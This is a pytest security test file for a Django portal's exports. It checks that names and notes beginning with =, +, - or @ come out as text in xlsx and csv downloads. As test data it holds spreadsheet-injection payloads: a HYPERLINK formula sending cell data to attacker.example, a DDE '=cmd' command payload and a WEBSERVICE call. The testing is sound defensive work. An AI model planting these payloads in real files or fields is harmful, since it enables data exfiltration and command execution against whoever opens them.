"""Every export writes text that starts with =, +, - or @ as text, never as a formula.

Names and notes come from people: a group named =HYPERLINK("http://…","คลิก") or a note
starting with @SUM must open in Excel as that text. In .xlsx files such text is a string
cell (openpyxl reads data_type "s", never "f"); in .csv files it starts with an
apostrophe (the OWASP advice for CSV injection).

Exports are found, not listed: every page of the URL conf that answers an administrator
with a file is checked, so a new download is covered as soon as it exists. The admin's
django-import-export downloads and the registry writers are checked too.
"""

from __future__ import annotations

import csv
import io
import re
from decimal import Decimal

import openpyxl
import pytest
from django.test import Client
from django.urls import reverse

from tests.conftest import make_entrepreneur, make_product
from tests.security.test_permission_matrix import ACCESS, ROUTES, url_for

DANGEROUS = (
    '=HYPERLINK("http://attacker.example/?x="&A1,"คลิกที่นี่")',
    "+แคบหมูสูตร 1+1",
    "-ยาหม่องไพล",
    "@SUM(A1:A9)",
    "=cmd|' /C calc'!A0",
)
NUMBER_LIKE = "0123456789.,%- "


@pytest.fixture
def injected(matrix, officer):
    """Names, notes and links that look like formulas, in every kind of data an export
    shows: the registry, survey answers, report lines, follow-ups, targets, districts."""
    from districts.models import District
    from products.models import Target
    from reports.models import ReportLine
    from reports.services import report_get_or_start
    from surveys.services import survey_get_or_start

    round = matrix.round
    district = District.objects.get(code="5607")
    district.name_th = "=แม่ใจ"  # names of places are shown in every dashboard
    district.save()
    e = make_entrepreneur("5607", name=DANGEROUS[0])
    products = [make_product(e, name=name) for name in DANGEROUS[1:]]
    make_product(make_entrepreneur("5607", name="@กลุ่มแม่บ้าน"), name=DANGEROUS[0])
    survey_get_or_start(round=round, district=district)
    report = report_get_or_start(round=round, district=district)
    for product in products:
        ReportLine.objects.filter(report=report, product=product).update(
            month_1=Decimal("100"), other_channel="=1+1", note="@note", url="https://x.example"
        )
    Target.objects.update_or_create(
        round=round, district=district, defaults={"official": 3, "reason": "=SUM(1)"}
    )
    from plans.services import followup_record

    followup_record(
        round=round,
        product=products[0],
        step="contacted",
        on=round.starts_on,
        note='=WEBSERVICE("http://x")',
        by=officer,
    )
    return matrix


#: The only formulas a writer may put in a file: its own totals, over cells of the sheet
#: (attachment 3's column S is =SUM(M7:R7)).
OWN_FORMULA = re.compile(r"=(SUM\()?\$?[A-Z]{1,3}\$?[0-9]+([:+]\$?[A-Z]{1,3}\$?[0-9]+)*\)?")


def assert_safe_xlsx(content: bytes, where: str) -> list[str]:
    book = openpyxl.load_workbook(io.BytesIO(content))
    texts = []
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f" or OWN_FORMULA.fullmatch(str(cell.value)), (
                    f"{where}: {sheet.title}!{cell.coordinate} is a formula: {cell.value!r}"
                )
                if isinstance(cell.value, str):
                    texts.append(cell.value)
    return texts


def assert_safe_csv(content: bytes, where: str) -> list[str]:
    text = content.decode("utf-8-sig")
    fields = [f for row in csv.reader(io.StringIO(text)) for f in row]
    for field in fields:
        if field[:1] in ("=", "+", "-", "@", "\t", "\r"):
            assert field[:1] == "-" and all(c in NUMBER_LIKE for c in field), (
                f"{where}: the field {field!r} would be read as a formula"
            )
    return fields


def _check(content: bytes, where: str) -> list[str]:
    if content[:4] == b"PK\x03\x04":
        return assert_safe_xlsx(content, where)
    return assert_safe_csv(content, where)


DOWNLOADS = [r for r in ROUTES if r.name in ACCESS and ACCESS[r.name][0]]


def test_every_download_of_the_portal_writes_formula_like_text_as_text(injected, admin):
    client = Client()
    client.force_login(admin)
    checked = {}
    for route in DOWNLOADS:
        url = url_for(route, injected, district=injected.mine)
        response = client.get(url)
        disposition = response.get("Content-Disposition", "")
        if response.status_code != 200 or "attachment" not in disposition:
            continue
        content = b"".join(response.streaming_content) if response.streaming else response.content
        if content == b"PK":  # the placeholder file of the fixture's job
            continue
        checked[route.name] = _check(content, route.name)
    # The exports this test must have found (a download that disappears is noticed).
    assert {
        "surveys:export",
        "surveys:province_export",
        "reports:download",
        "reports:province_download",
        "products:targets_xlsx",
        "dashboards:province_xlsx",
        "dashboards:province_csv",
        "dashboards:country_xlsx",
        "dashboards:country_csv",
        "dashboards:targets_progress",
    } <= set(checked)
    shown = {name: " ".join(texts) for name, texts in checked.items()}
    for name in ("surveys:export", "reports:download"):
        for text in DANGEROUS:
            assert text in shown[name], f"{name} lost {text!r}"
    assert "'=แม่ใจ" in shown["dashboards:province_csv"]


def test_the_export_jobs_write_formula_like_text_as_text(injected, officer, province_staff):
    """Exports run as background jobs write through the same writers."""
    from jobs.models import Job, JobStatus

    for user, scope in ((officer, {"district": "5607"}), (province_staff, {"province": "56"})):
        client = Client()
        client.force_login(user)
        for kind in ("survey_export", "report_export"):
            client.post(
                reverse("jobs:export"), {"kind": kind, "round": injected.round.code, **scope}
            )
    jobs = (
        Job.objects.filter(status=JobStatus.SUCCEEDED)
        .exclude(output_file="")
        .exclude(pk__in=[injected.mine.job.pk, injected.theirs.job.pk])
    )
    assert jobs.count() >= 4
    for job in jobs:
        with job.output_file.open("rb") as fh:
            _check(fh.read(), f"job {job.kind} {job.params}")


def test_the_registry_writers_write_formula_like_text_as_text(tmp_path):
    from products.registry_workbook import RegistryRow, registry_csv, registry_write

    rows = [
        RegistryRow(
            row=2,
            entrepreneur_code="560700001",
            entrepreneur_name=DANGEROUS[0],
            entrepreneur_type=1,
            product_code="",
            product_name=name,
            product_type=1,
            registered_year=2560,
            house_no="=1",
            moo="+2",
            subdistrict_code="560701",
            subdistrict_name="ศรีถ้อย",
            district_code="5607",
            district_name="แม่ใจ",
            province_name="พะเยา",
            phone="-0812345678",
            status="active",
        )
        for name in DANGEROUS[1:]
    ]
    path = tmp_path / "registry.xlsx"
    registry_write(rows, path)
    texts = assert_safe_xlsx(path.read_bytes(), "registry_write")
    assert DANGEROUS[0] in texts
    fields = assert_safe_csv(registry_csv(rows), "registry_csv")
    assert "'" + DANGEROUS[0] in fields


@pytest.mark.parametrize("model", ["entrepreneur", "product", "target"])
@pytest.mark.parametrize("file_format", ["CSV", "XLSX"])
def test_the_admins_downloads_write_formula_like_text_as_text(injected, admin, model, file_format):
    """The admin's export (django-import-export) of the registry and the targets."""
    from django.contrib import admin as django_admin
    from django.contrib.contenttypes.models import ContentType

    model_class = ContentType.objects.get(app_label="products", model=model).model_class()
    formats = django_admin.site._registry[model_class].get_export_formats()
    index = next(i for i, f in enumerate(formats) if f().get_extension() == file_format.lower())
    client = Client()
    client.force_login(admin)
    url = reverse(f"admin:products_{model}_export")
    data = {"format": str(index), "resource": "0", "export_items": []}
    form = client.get(url).context["form"]
    for name, field in form.fields.items():  # every field of the resource, selected
        if (
            name.endswith(tuple(f"_{f}" for f in ("code", "name", "reason", "official")))
            or getattr(field, "initial", None) is True
        ):
            data[name] = "on"
    response = client.post(url, data)
    assert response.status_code == 200
    assert "attachment" in response.get("Content-Disposition", "")
    _check(response.content, f"admin export of {model} as {file_format}")
